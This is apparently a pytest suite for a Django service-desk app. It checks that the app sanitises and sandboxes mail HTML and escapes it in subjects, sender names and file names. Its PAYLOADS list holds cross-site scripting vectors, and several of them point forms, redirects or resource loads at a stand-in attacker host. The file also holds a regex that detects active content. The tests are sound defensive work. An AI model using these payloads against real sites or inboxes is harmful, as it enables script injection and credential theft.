"""Script in mails: HTML, sender's name, subject, file names, Content-IDs, SVG, nested tags."""

import re

import pytest
from django.urls import reverse

from servicedesk.intake.mail.html import clean
from servicedesk.intake.views.frames import FRAME_HEAD
from tests.factories import an_agent
from tests.intake.mails import a_mail, a_mailbox, arrives

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" jav&#x09;ascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<form action="https://evil.example.net"><input name=password></form>',
    "<base href='https://evil.example.net/'>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example.net">',
    '<link rel=stylesheet href="https://evil.example.net/x.css">',
    "<style>@import 'https://evil.example.net/x.css'; body{background:url(https://evil.example.net/x)}</style>",
    '<div style="background:url(https://evil.example.net/x);position:fixed;inset:0">x</div>',
    '<img src="https://evil.example.net/pixel.png">',
    '<img src="cid:unknown" onload="alert(1)">',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
]
_ACTIVE = re.compile(
    r"<(script|iframe|object|embed|form|input|base|meta|link|svg|math|style|template|noscript)\b"
    r"|\son\w+\s*=|(?:href|src)\s*=\s*[\"']?\s*(?:javascript|vbscript|data:text)|url\(|position\s*:"
    r"|src\s*=\s*[\"']?https?:",
    re.IGNORECASE,
)


class TestHtmlOfMails:
    @pytest.mark.parametrize("payload", PAYLOADS)
    def test_is_shown_without_anything_that_runs_or_loads(self, visit, payload):
        mail = arrives(a_mail("stranger@example.net", html=f"<p>Hello</p>{payload}"))
        answer = visit(an_agent()).get(reverse("intake:mail-html", args=[mail.pk]))
        body = answer.content.decode().removeprefix(FRAME_HEAD)
        assert "<p>Hello</p>" in body
        assert not _ACTIVE.search(body), body

    def test_stands_in_a_sandbox_with_its_own_policy(self, visit):
        mail = arrives(a_mail("stranger@example.net", html="<p>Hello</p>"))
        client = visit(an_agent())
        answer = client.get(reverse("intake:mail-html", args=[mail.pk]))
        policy = answer["Content-Security-Policy"]
        assert policy.startswith("sandbox ") and "default-src 'none'" in policy and "allow-scripts" not in policy
        assert "allow-same-origin" not in policy and answer["X-Content-Type-Options"] == "nosniff"
        page = client.get(reverse("intake:mail", args=[mail.pk])).content.decode()
        sandbox = re.search(r'<iframe[^>]*sandbox="([^"]*)"', page)[1]
        assert "allow-scripts" not in sandbox and "allow-same-origin" not in sandbox

    @pytest.mark.parametrize("payload", PAYLOADS)
    def test_and_all_else_is_text_on_our_pages(self, visit, payload):
        name = payload.replace('"', "").replace("/", "_")[:100]
        mail = a_mail("stranger@example.net", subject=payload[:180], text=payload,
                      files=[(f"{name}.svg", b"<svg onload=alert(1)>", "image/svg+xml")])  # fmt: skip
        del mail["From"]
        mail["From"] = f'"{name}" <stranger@example.net>' if "<" not in name else "stranger@example.net"
        row = arrives(mail, a_mailbox(accepts="everyone"))
        client = visit(an_agent())
        for address in (
            reverse("intake:mail", args=[row.pk]),
            reverse("intake:held") + "?state=all",
            reverse("desk:beside", args=[row.ticket.number]),
            f"/incidents/{row.ticket.number}/",
        ):
            for headers in ({}, {"HX-Request": "true"}):
                page = client.get(address, headers=headers).content.decode()
                assert payload not in page, address

    def test_svg_and_html_come_as_files_to_keep(self, visit):
        mail = arrives(a_mail("stranger@example.net", files=[("x.svg", b"<svg onload=alert(1)>", "image/svg+xml")]))
        answer = visit(an_agent()).get(reverse("intake:mail-file", args=[mail.pk, 0]))
        assert answer["Content-Type"] == "application/octet-stream"
        assert answer["Content-Disposition"].startswith("attachment")


class TestPositiveControl:
    def test_honest_html_keeps_its_looks_and_its_own_pictures(self):
        kept = clean(
            '<table><tr><td style="color:red">Red</td></tr></table><b>bold</b>'
            '<a href="https://example.com/">a link</a><img src="cid:logo" alt="Logo">',
            {"logo": "data:image/png;base64,iVBORw0KGgo="},
        )
        assert 'style="color:red"' in kept and "<b>bold</b>" in kept and 'href="https://example.com/"' in kept
        assert 'src="data:image/png;base64,iVBORw0KGgo="' in kept
